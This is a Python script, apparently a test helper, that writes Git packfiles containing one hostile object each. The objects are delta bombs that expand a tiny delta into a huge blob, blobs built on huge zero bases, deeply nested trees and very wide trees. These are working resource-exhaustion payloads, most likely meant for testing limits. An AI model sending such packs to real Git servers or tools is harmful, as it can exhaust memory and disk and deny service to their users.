"""Writes a pack with one hostile object to a file, and prints its id.

usage: bomb.py FILE base|result|deep|wide SIZE [ID]
"""
import hashlib
import struct
import sys
import zlib

path, kind, size = sys.argv[1], sys.argv[2], int(sys.argv[3])
packed = []


def name(word, content):
    return hashlib.sha1(b"%s %d\0" % (word, len(content)) + content).digest()


def header(number, length):
    first = number << 4 | length & 15
    length >>= 4
    out = bytearray()
    while length:
        out.append(first | 128)
        first, length = length & 127, length >> 7
    out.append(first)
    return bytes(out)


def varint(length):
    out = bytearray()
    while length > 127:
        out.append(length & 127 | 128)
        length >>= 7
    out.append(length)
    return bytes(out)


def add(number, word, content):
    packed.append(header(number, len(content)) + zlib.compress(content, 9))
    return name(word, content)


if kind == "base":
    # A small blob out of literals, whose base is large.
    base = add(3, b"blob", bytes(size))
    content = sys.stdin.buffer.read()
    delta = varint(size) + varint(len(content))
    for at in range(0, len(content), 127):
        part = content[at:at + 127]
        delta += bytes([len(part)]) + part
    packed.append(header(7, len(delta)) + base + zlib.compress(delta))
    found = name(b"blob", content)
elif kind == "result":
    # A large blob out of many copies of a small one.
    part = (1 << 24) - 1
    base = add(3, b"blob", bytes(part))
    copies = size // part
    delta = varint(part) + varint(copies * part) + b"\xf0\xff\xff\xff" * copies
    packed.append(header(7, len(delta)) + base + zlib.compress(delta))
    digest = hashlib.sha1(b"blob %d\0" % (copies * part))
    for _ in range(copies):
        digest.update(bytes(part))
    found = digest.digest()
elif kind == "deep":
    found = add(2, b"tree", b"")
    for _ in range(size):
        found = add(2, b"tree", b"40000 d\0" + found)
else:
    blob = bytes.fromhex(sys.argv[4])
    found = add(2, b"tree", b"".join(b"100644 f%07d.yaml\0" % at + blob for at in range(size)))

text = b"PACK" + struct.pack(">II", 2, len(packed)) + b"".join(packed)
with open(path, "wb") as file:
    file.write(text + hashlib.sha1(text).digest())
print(found.hex())
